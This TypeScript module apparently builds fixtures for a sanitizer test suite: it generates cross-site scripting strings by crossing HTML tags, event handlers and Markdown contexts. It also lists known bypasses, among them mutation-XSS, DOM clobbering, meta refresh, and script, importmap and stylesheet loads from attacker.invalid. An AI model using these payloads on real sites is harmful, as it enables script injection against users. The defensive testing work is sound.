const RUN = 'window.pwned=1';

const TAGS = [
  'script',
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'object data=x',
  'embed src=x',
  'marquee',
  'math',
  'form',
  'button autofocus',
  'a href=# id=x',
  'style',
  'link rel=stylesheet href=x',
  'meta',
  'base href=//attacker.invalid',
  'template',
  'noscript',
  'svg><animate attributeName=x',
  'svg><set attributeName=x',
  'svg><use href=x',
  'svg><foreignObject><p',
  'table background=//attacker.invalid/x',
  'x-own id=root',
];

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onpageshow',
  'onpointerenter',
  'onscroll',
  'oncontentvisibilityautostatechange',
];

const SHAPES: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} ${event}=${RUN}>`,
  (tag, event) => `<${tag}/${event}="${RUN}"//`,
  (tag, event) => `<${tag}\n${event}\n=\n'${RUN}'>x</${tag.split(' ')[0]}>`,
  (tag, event) =>
    `<${tag.toUpperCase()} x="></x><img src=x ${event}=${RUN}>" ${event.toUpperCase()}=&#119;indow.pwned=1>`,
];

/** Places in Markdown where HTML could come to life by another way than as a block. */
const PLACES: readonly ((html: string) => string)[] = [
  (html) => `# ${html}`,
  (html) => `> ${html}`,
  (html) => `- [ ] ${html}`,
  (html) => `| ${html} | b |\n| --- | --- |\n| c | ${html} |`,
  (html) => `[${html}](https://example.org "${html}")`,
  (html) => `![${html}](x "${html}")`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
  (html) => `\`${html}\``,
  (html) => `[^${html}]\n\n[^${html}]: ${html}`,
  (html) => `> [!NOTE] ${html}\n> ${html}`,
  (html) => `**${html}** ~~${html}~~`,
  (html) => `<sub>${html}</sub>`,
  (html) => `$\\text{${html}}$`,
  (html) => `<!-- ${html} --> ${html} <![CDATA[${html}]]>`,
];

const WHOLE: readonly string[] = [
  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"></svg>',
  '<svg><image href="https://attacker.invalid/i.svg"></svg>',
  '<svg><style>@import url(https://attacker.invalid/s.css)</style></svg>',
  '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><svg><text>&b;</text></svg>',
  '<?xml version="1.0"?><?xml-stylesheet href="https://attacker.invalid/x.xsl"?><svg/>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwned=1 src>">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  '<template><img src=x onerror=window.pwned=1></template>',
  '<form id=root name=goldsmith><input name=call><input name=attributes></form>',
  '<a id=goldsmith></a><a id=goldsmith name=call href=x></a>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<script type=module>import "https://attacker.invalid/x.js"</script>',
  '<script type=importmap>{"imports":{"a":"https://attacker.invalid/a.js"}}</script>',
  '<div style="position:fixed;inset:0;background:url(https://attacker.invalid/x)">over all</div>',
  '<div data-background-iframe="https://attacker.invalid/" data-lexical-editor=true contenteditable>x</div>',
  '"><svg/onload=window.pwned=1>',
  "'-window.pwned=1-'",
  `\${window.pwned=1}`,
  '{{constructor.constructor("window.pwned=1")()}}',
];

/** HTML and SVG in every shape in which it has run somewhere, as a block and in every place of Markdown. */
export function htmlTexts(): string[] {
  const crossed = TAGS.flatMap((tag) => EVENTS.flatMap((event) => SHAPES.map((shape) => shape(tag, event))));
  const placed = TAGS.flatMap((tag) => PLACES.map((place) => place(`<${tag} onload=${RUN} onerror=${RUN}>`)));
  return [...WHOLE, ...placed, ...crossed];
}
